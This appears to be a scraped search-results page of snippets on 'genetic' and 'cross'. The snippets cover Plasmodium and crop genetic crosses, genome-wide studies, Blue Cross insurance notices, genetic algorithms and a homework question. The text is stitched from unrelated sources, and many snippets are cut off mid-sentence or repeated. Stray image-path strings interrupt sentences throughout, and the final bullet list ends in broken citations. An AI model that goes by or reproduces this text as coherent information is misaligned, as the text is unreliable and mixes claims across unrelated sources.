... went into effect July 1 among Anthem Blue Cross fully-insured and self-insured members. ... Anthem Blue Cross Launches Program to Ensure Appropriate Use of Genetic Tests. Jul 31, 2017 ... NEW YORK (GenomeWeb) - Anthem Blue Cross announced on Frdiay a program to promote "appropriate use" of genetic tests and ... Home » Anthem Blue CrossLaunches Program to Ensure Appropriate Use of Genetic Tests ...
Selective Inbreeding: Genetic Crosses Drive Apparent Adaptive Mutation in the Cairns-Foster System of Escherichia coli. Amanda ... Selective Inbreeding: Genetic Crosses Drive Apparent Adaptive Mutation in the Cairns-Foster System of Escherichia coli. Amanda ... Selective Inbreeding: Genetic Crosses Drive Apparent Adaptive Mutation in the Cairns-Foster System of Escherichia coli. Amanda ... Selective Inbreeding: Genetic Crosses Drive Apparent Adaptive Mutation in the Cairns-Foster System of Escherichia coli ...
Genetic and non-genetic correlates of vitamins K and D. Eur J Clin Nutr. 2009;63(4):458-64.CrossRefGoogle Scholar ... Genetic influence on serum 25-hydroxyvitamin D concentration in Korean men: a cross-sectional study. ... Several previous studies have investigated the effect of genetic factors on vitamin D status [8, 14, 15, 16, 17, 18, 19, 20]. ... Evidence for genetic regulation of vitamin D status in twins with multiple sclerosis. Am J Clin Nutr. 2008;88(2):441-7.CrossRef ...
Blue Cross Blue Shield of Massachusetts is an Independent Licensee of the Blue Cross and Blue Shield Association.. ® Registered ... About Blue Cross Blue Shield of Massachusetts Terms of Use, Privacy & Security Accessibility Nondiscrimination and Translation ... Blue Cross Blue Shield of Massachusetts is a leading provider of quality health insurance for residents of Massachusetts. Our ... Blue Cross and Blue Shield ofMassachusetts, Inc.. 101 Huntington Avenue, Suite 1300, Boston, MA 02199-7611 , 1-800-262-BLUE ( ...
Genetic Crosses, PLEASE HELP!. Genetics as it applies to evolution, molecular biology, and medical aspects. ... The question is: A cross between two pure breeding (Homozygous) corn plants was set up to produce an F1 generation. Complete:. ...
Considering this shortcoming, this paper proposed a hybrid of cross entropy with genetic algorithm (GA), called CEGA, on m- ... Cross entropy (CE), as a new metaheuristic, can be an alternative method to solve NWJSS problem. This method has been used in ... The results are compared with other metaheuritics: Genetic Algorithm-Simulated Annealing (GASA) and hybrid tabu search. The ... B. Santosa, M. Budiman and S. Wiratno, "A Cross Entropy-Genetic Algorithm for m-Machines No-Wait Job-ShopScheduling Problem," ...
... genetic testing can be helpful. It can be used to look for the gene changes linked to these syndromes. ... Because of these issues, you should seek genetic counseling before, during, and after any genetic testing. Remember, genetic ... Breast Cancer: Genetic Testing. Cancer is a disease of the genes. Most cancers develop as a result of genetic damage or a ... How is genetic testing done?. In most cases, a blood sample is needed to do genetic testing, but sometimes saliva, skin cells, ...
... falciparum genetic cross (7G8 × GB4). We detected 638 recombination events and constructed a high-resolution genetic map. ... High recombination rates and hotspots in aPlasmodium falciparum genetic cross Genome Biol. 2011;12(4):R33. doi: 10.1186/gb- ... Comparinggenetic and physical maps, we obtained an overall recombination rate of 9.6 kb per centimorgan and identified 54 ... Genetic recombination and nucleotide substitution are the two major mechanisms that the parasite employs to generate genome ...
In this study, a new in vivo experimental model was used that recapitulates many of the genetic characteristics of an outbred ... By controlling viral dose, environment and demographic variables, we were able to focus on the role that host genetic variation ... environment and host genetic polymorphisms contribute to variable host responses and infectious outcomes. ... Genetic polymorphism Is the Subject Area "Genetic polymorphism" applicable to this article? Yes. No. ...
Previous research and analysis on the reconstruction of cross-cut shredded text document (RCCSTD) are mainly based on the ... Intrarow splicing regarded as the travelling salesman problem is solved by the improved genetic algorithm. Finally, the ... and that the algorithm may be useful for the different size of cross-cut shredded text document. ... The fitness function of the genetic algorithm is The new genetic algorithm with multiple point crossover operators and multiple ...
In this article, as a case study, we conducted both longitudinal and cross-sectional analyses of the ADNI data with several ... analysis of the phenotypic data from the baseline to month 48 identified more SNP-phenotype associations than cross-sectional ... Most existing genome-wide association analyses are cross-sectional, utilizing only phenotypic data at a single time point, e.g ... brain imaging (not clinical diagnosis) phenotypes, demonstrating the power gains of longitudinal analysis over cross-sectional ...
... whereby identifying genetic determinants of this trait has the potentialto improve our understanding across different ... Genome-wide analysis of self-reported risk-taking behaviour and cross-disorder genetic correlations in the UK Biobank cohort. * ... Genome-wide analysis of self-reported risk-taking behaviour and cross-disorder genetic correlations in the UK Biobank cohort ... Genome-wide analysis of self-reported risk-taking behaviour and cross-disorder genetic correlations in the UK Biobank cohort. ...
Six selected SSRs from M. truncatula were used to fingerprint and estimate the genetic similarity of a set of 23 accessions of ... The selected SSRs will allow fingerprinting and genetic studies in Onobrychis species, solving the lack of available SSR ... Kaghzi Kalan) and assessment of genetic fidelity of micropropagated plants using RAPD markers ...
Genetic control of collagen-induced arthritis in a cross with NOD and C57BL/10 mice is dependent on gene regions encoding ... Genetic mapping of 353 F2 mice revealed two loci associated with arthritis. One locus was found on chromosome 2 (LOD score 9.8 ... The genetic control of arthritis is unique in comparison to diabetes, since none of these loci have been identified in analysis ... a genetic analysis was performed. (NOD.Q x B10.Q)F1 mice wereresistant, whereas 27% of the (NOD.Q x B10.Q)F2 mice developed ...
A Cross-Cancer Genetic Association Analysis of the DNA Repair and DNA Damage Signaling Pathways for Lung, Ovary, Prostate, ... A Cross-Cancer Genetic Association Analysis of the DNA repair and DNA Damage Signaling Pathways for Lung, Ovary, Prostate, ... A Cross-Cancer Genetic Association Analysis of the DNA repair and DNA Damage Signaling Pathways for Lung, Ovary, Prostate, ... This cross-cancer site, pooled analysis was performed to increase the power to detect common variants of DNA repair genes ...
Its definitely not a Genetic Optimizer issue: we made an effort to fix all cross-thread operation errors that existed in it. ... Its definitely not a Genetic Optimizer issue: we made an effort to fix all cross-thread operation errors that existed in it. ... I decided to experiment with the Genetic Optimizer Extension and I have run into a problem. In the middle of an optimization ... Hi! I decided to experiment with the Genetic Optimizer Extension and I have run into a problem. In the middle of an ...
... for F1 Cross ¡V Expected Genetic Outcomes F1 Parent, ... Exercise 2: Dihybrid Genetic Crosses PROCEDURES: 1. Based on what you can conclude about its genetic makeup when told that the ... 4. Using the Punnett Square for F1 Dihybrid Cross, Figure 3, indicate the possible genetic outcomes for the F2 progeny here: ... Dihybrid Genetic Crosses for Corn. A. What are the two hypotheses that you made about the allelic frequencies of progeny ...
... menstruation and genetic factors on iron status in Spanish menstruating women (n = 142). Dietary intake was assessed by a 72-h ... Influence of Diet, Menstruation and Genetic Factorson Iron Status: A Cross-Sectional Study in Spanish Women of Childbearing ... Influence of Diet, Menstruation and Genetic Factors on Iron Status: A Cross-Sectional Study in Spanish Women of Childbearing ... "Influence of Diet, Menstruation and Genetic Factors on Iron Status: A Cross-Sectional Study in Spanish Women of Childbearing ...
Dissection of genetic variance into additive (D), dominance (H), environment (E) and interaction (F)components revealed ... Dissection of genetic variance into additive (D), dominance (H), environment (E) and interaction (F) components revealed ... From these, one tolerant (ZL-11271) and one susceptible (R-2304-2) genotypes were crossed to develop six basic generations, ... From these, one tolerant (ZL-11271) and one susceptible (R-2304-2) genotypes were crossed to develop six basic generations, ...
However, the data from this study suggest that there are also distinct components to the genetic architectures of these two ... Previous work has shown that Tourettes syndrome and OCD have some degree of shared genetic variation. ... Cross-disorder Genome-Wide Analyses Suggest a Complex Genetic Relationship Between Tourettes Syndrome and OCD Am J Psychiatry ... However, the data from this study suggest that there are also distinct components to the genetic architectures of these two ...
... and to evaluate the extent of genetic variability recovered through selfing. A vast amount of genetic variation was detected ... A vast amount of genetic variation was detected among the 72 linesevaluated for quantitative and qualitative traits. ... and to evaluate the extent of genetic variability recovered through selfing. ... Elevated Genetic Diversity in an F2:6 Population of Quinoa (Chenopodium quinoa) Developed through an Inter-ecotype Cross. ...
Genetic diversity of durian generates from cross breeding between D. kutejensis and D. zibethinus was identified in molecular ... RAPD analysis resulted in genetic diversity of hybrid Durian with family relationship of 0.59%-0.1%. Hybrids UB1, UB5, UB13, ... Genetic diversity of durian generates from cross breeding between D. kutejensis and D. zibethinus was identified in molecular ... Genetic diversity of hybrid durian resulted from cross breeding between Durio kutejensis and Durio zibethinus based on random ...
... Asian ... Genetic Variation of Different Crosses of Linseed (Linum usitatissimum L.) Genotypes for Some Agro-morphological Traits. ... Variability, Heritability and Genetic Advance for Some Yield and Yield Related Traits in Ethiopian Barley (Hordeum vulgare L.) ... Genetic Variability of Ethiopian Mustard (Brassica carinata A. Brun) Accessions Based on Some Morphological Characters. ...
Croisements génétiques des parasites du paludisme chez les rongeurs sont effectuées en alimentant deux des parasites génétiquement...
... plans within the scope of our medical policy Genetic Testing for Warfarin Dose . Access our Medical Policy Manual to review ... Horizon Blue Cross Blue Shield of New Jersey is an independent licensee of the Blue Cross and Blue Shield Association. ... Medical Policy Update: Genetic Testing for Warfarin DoseEffective August 29, 2019 , Horizon BCBSNJ will change the way we ... You are leaving the Horizon Blue Cross Blue Shield of New Jersey website. Please click Continue to leave this website. Or, if ...
Genetic mapping of genes regulating thethymus size in back-cross rats between the laboratory BUF/Mna strain and the MITE ... Mapping of two genetic loci, Ten-1 and Ten-2, associated with thymus enlargement in BUF/Mna rats MURAKUMO Y ... Genetic mapping of the athymic nude (RNU) locus in the rat to a region on chromosome 10 CASH JM. ... A rat genetic map constructed by representational difference analysis markers with suitability for large-scale typing TOYOTA M ...
Genetic and Undiagnosed Conditions met for the first time on Tuesday 28 March. We are delighted that Bob Doris (SNP MSP for ... John Scott MSP and Anas Sarwar MSP will support Bob Doris MSP as Deputy Conveners of the Cross Party Group. ... The proposed Cross Party Group on Rare, Genetic and Undiagnosed Conditions met for the first time on Tuesday 28 March. We are ... Help to set up the Cross Party Group on Rare, Genetic and Undiagnosed Conditions. Last Reviewed 10/04/2017. ...
Little genetic differentiation in different language groups of the Cross River region of Nigeria... Human genetic variation: the first 50 dimensions. Human genetic variation: 124+ clusters with the Galore approach. How Y-STR ... The Cross River region was shown to be extremelyhomogenous for both Y-chromosome and mtDNA markers with language spoken having ... Little genetic differentiation as assessed by uniparental markers in the presence of substantial language variation in peoples ...
Investigation of genetic determinants of drug response in a Plasmodium falciparum genetic cross using a high-throughput ... In support of these efforts, the parental lines and progeny of the 803xGB4 genetic cross were characterized by pharmaceutical ... Linkage analysis revealed 25 genetic loci significantly associated with parasite response to 61 compounds. A locus on ... rapid spread of artemisinin-resistant Plasmodium falciparum in southeast Asia highlights the importance of identifying genetic ...
  • Previous work has shown that Tourette's syndrome and OCD have some degree of shared genetic variation. (
  • A vast amount of genetic variation was detected among the 72 lines evaluated for quantitative and qualitative traits. (
  • Previous studies have found significant correlations between genetic variation and language in Africa over large geographic distances, often across language families. (
  • Because of the high heritability of breast density, and the role of the insulin-like growth factor (IGF) pathway in cellular proliferation and breast development, we examined the association between common geneticvariation in this pathway and mammographic density. (
  • We genotyped 29 haplotype-tagging SNPs demonstrated to capture common genetic variation in IGF1, IGF binding protein ( IGFBP)-1, and IGFBP-3. (
  • Conclusion: Common genetic variation in IGF1 is strongly associated with percentage mammographic density. (
  • If these molecular phenotypes are affected by genetic variation due to a major QTL they will show a clear multimodal distribution. (
